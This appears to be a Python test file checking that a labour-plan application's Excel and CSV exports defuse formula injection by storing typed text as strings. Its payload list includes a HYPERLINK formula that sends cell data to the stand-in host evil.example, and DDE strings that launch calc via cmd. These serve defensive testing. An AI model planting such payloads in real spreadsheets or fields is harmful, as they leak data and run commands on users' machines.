"""No export carries a formula: text people typed that begins with = + - @ stays text."""

import csv
import datetime
import io

import openpyxl
import pytest

from labourplan.lib.spreadsheet import csv_value, is_dangerous, put_text
from labourplan.plans.excel import export_workbook as plan_workbook
from labourplan.plans.models import PlanItem
from labourplan.plans.services import record_approval, submit_plan, update_item, update_topic
from labourplan.reports.excel import export_workbook as report_workbook
from labourplan.reports.services import open_report, save_result

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_beginning_like_a_formula_is_neutralised(text):
    assert is_dangerous(text)
    assert csv_value(text) == "'" + text
    cell = openpyxl.Workbook().active["A1"]
    put_text(cell, text)
    assert cell.value == text and cell.data_type == "s" and cell.quotePrefix


@pytest.mark.parametrize("text", ["ตรวจร่วม 6 ครั้ง", "1) ประชุม", "", "a=b"])
def test_ordinary_text_is_left_alone(text):
    assert not is_dangerous(text)
    assert csv_value(text) == text
    assert csv_value(12) == 12


def _cells(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_the_plan_workbook_writes_a_formula_like_title_as_text(cm_plan, cm_editor):
    topic = cm_plan.current_version.topics.first()
    update_topic(topic=topic, revision=topic.revision, title=PAYLOADS[0], by=cm_editor)
    item = PlanItem.objects.filter(topic=topic).first()
    update_item(item=item, revision=item.revision, changes={"unit": "@SUM(1,1)"}, by=cm_editor)
    cells = _cells(plan_workbook(cm_plan.current_version))
    typed = [c for c in cells if c.value in (PAYLOADS[0], "@SUM(1,1)")]
    assert len(typed) == 2
    assert all(c.data_type == "s" for c in typed)
    # the only formulas are the workbook's own row totals
    assert all(str(c.value).startswith("=SUM(") for c in cells if c.data_type == "f")


def test_the_report_workbook_writes_a_formula_like_remark_as_text(reporting_plan, cm_editor):
    report = open_report(plan=reporting_plan, month_index=1, by=cm_editor, today=reporting_plan.fiscal_year.start_date)
    item = PlanItem.objects.filter(topic__version=reporting_plan.current_version, sub_items=None).first()
    save_result(report=report, item=item, revision=0, result=1, by=cm_editor, remark="=1+1")
    cells = _cells(report_workbook(report))
    remark = [c for c in cells if c.value == "=1+1"]
    assert remark and remark[0].data_type == "s"


def test_the_national_exports_neutralise_user_text(client, central_viewer, cm_plan, cm_editor, cm_approver, signed_pdf):
    topic = cm_plan.current_version.topics.first()
    update_topic(topic=topic, revision=topic.revision, title="=cmd|' /C calc'!A0", by=cm_editor)
    version = submit_plan(version=cm_plan.current_version, submitted_on=datetime.date(2026, 10, 10), by=cm_approver)
    record_approval(version=version, approved_on=datetime.date(2026, 10, 20), document=signed_pdf, by=cm_approver)
    client.force_login(central_viewer)
    rows = list(csv.reader(io.StringIO(client.get("/national/export.csv?fy=2570").content.decode("utf-8-sig"))))
    topics = {row[6] for row in rows[1:] if row[1] == "50"}
    assert "'=cmd|' /C calc'!A0" in topics
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    cells = _cells(client.get("/national/export.xlsx?fy=2570").content)
    assert not [c for c in cells if c.data_type == "f"]
    assert next(c for c in cells if c.value == "=cmd|' /C calc'!A0").data_type == "s"


def test_numbers_keep_their_value_and_text_goes_through_the_guard():
    from labourplan.lib.spreadsheet import put_value

    sheet = openpyxl.Workbook().active
    assert put_value(sheet["A1"], 0).value == 0  # a level 0 is a number, not an empty cell
    assert put_value(sheet["A2"], "=1+1").data_type == "s"
